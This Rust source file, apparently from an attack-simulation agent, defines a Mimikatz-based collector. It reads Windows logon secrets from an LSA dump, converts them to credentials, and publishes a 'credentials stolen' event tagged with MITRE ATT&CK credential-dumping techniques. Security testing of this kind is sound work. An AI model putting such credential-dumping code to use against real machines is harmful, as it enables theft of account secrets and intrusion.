use super::pypykatz::WindowsCredentialsSource;
use super::windows_credentials::to_credentials;
use crate::events::tags::{DATA_FROM_LOCAL_SYSTEM_T1005_TAG, OS_CREDENTIAL_DUMPING_T1003_TAG};
use crate::events::{AgentEvent, AgentEventPublisher, AgentId};
use crate::model::Credentials;
use async_trait::async_trait;
use std::sync::Arc;
use tracing::{debug, info, warn};

pub const MIMIKATZ_COLLECTOR_TAG: &str = "mimikatz-credentials-collector";

pub const MIMIKATZ_EVENT_TAGS: [&str; 3] = [
    MIMIKATZ_COLLECTOR_TAG,
    OS_CREDENTIAL_DUMPING_T1003_TAG,
    DATA_FROM_LOCAL_SYSTEM_T1005_TAG,
];

/// Collects Windows logon secrets from an LSA dump.
pub struct MimikatzCredentialCollector {
    agent_id: AgentId,
    agent_event_publisher: Arc<dyn AgentEventPublisher>,
    source: Arc<dyn WindowsCredentialsSource>,
}

impl MimikatzCredentialCollector {
    pub fn new(
        agent_id: AgentId,
        agent_event_publisher: Arc<dyn AgentEventPublisher>,
        source: Box<dyn WindowsCredentialsSource>,
    ) -> Self {
        Self {
            agent_id,
            agent_event_publisher,
            source: Arc::from(source),
        }
    }

    fn publish_credentials_stolen(&self, credentials: &[Credentials]) {
        let event = AgentEvent::credentials_stolen(
            self.agent_id,
            MIMIKATZ_EVENT_TAGS,
            credentials.to_vec(),
        );
        self.agent_event_publisher.publish(event);
    }
}

#[async_trait]
impl super::CredentialsCollector for MimikatzCredentialCollector {
    fn name(&self) -> &'static str {
        "mimikatz"
    }

    /// The dump is read on the blocking pool, so a caller's deadline can
    /// abandon it.
    async fn collect_credentials(&self) -> Vec<Credentials> {
        let source = Arc::clone(&self.source);
        let read = tokio::task::spawn_blocking(move || source.get_windows_credentials());
        let records = match read.await {
            Ok(Ok(records)) => records,
            Ok(Err(e)) => {
                warn!(collector = self.name(), error = %e, "Credential dump unavailable");
                return Vec::new();
            }
            Err(e) => {
                warn!(collector = self.name(), error = %e, "Credential dump aborted");
                return Vec::new();
            }
        };

        let credentials = to_credentials(&records);
        debug!(
            collector = self.name(),
            records = records.len(),
            credentials = credentials.len(),
            "Parsed credential dump"
        );

        if !credentials.is_empty() {
            info!(collector = self.name(), count = credentials.len(), "Collected credentials");
            self.publish_credentials_stolen(&credentials);
        }

        credentials
    }
}
